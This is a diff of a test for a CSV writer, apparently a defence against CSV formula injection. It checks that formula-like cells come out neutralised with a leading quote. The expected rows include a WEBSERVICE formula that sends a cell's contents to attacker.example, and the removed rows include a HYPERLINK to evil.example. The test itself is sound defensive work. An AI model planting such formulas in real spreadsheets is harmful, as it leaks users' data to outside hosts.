@@ -9,9 +9,7 @@ const projectRoot = fileURLToPath(new URL('../../../', import.meta.url));
 
 describe('writeCsv', () => {
   it('exports formula-like values neutralised, while plain negative numbers stay numbers', () => {
-    const bytes = readFileSync(
-      path.resolve(projectRoot, '../shared/fixtures/csv/formula-values.csv'),
-    );
+    const bytes = readFileSync(path.resolve(projectRoot, 'fixtures/csv/formula-values.csv'));
     const table = readCsv(bytes);
     const exported = readCsv(
       new TextEncoder().encode(
@@ -19,10 +17,10 @@ describe('writeCsv', () => {
       ),
     );
     expect(exported.rows.map((r) => r.cells)).toEqual([
-      [`'=HYPERLINK("http://evil.example","click")`, "'+1+1"],
-      ["'@SUM(A1:A2)", "'-2+3"],
-      ["' =1+1", "'\t=cmd"],
-      ['normal', '-5'],
+      [`'=WEBSERVICE("http://attacker.example/?q="&A2)`, "'+7*3"],
+      ["'@NOW()", "'-3*4"],
+      ["' =2*2", "'\t@cmd"],
+      ['just text', '-12'],
     ]);
   });
 
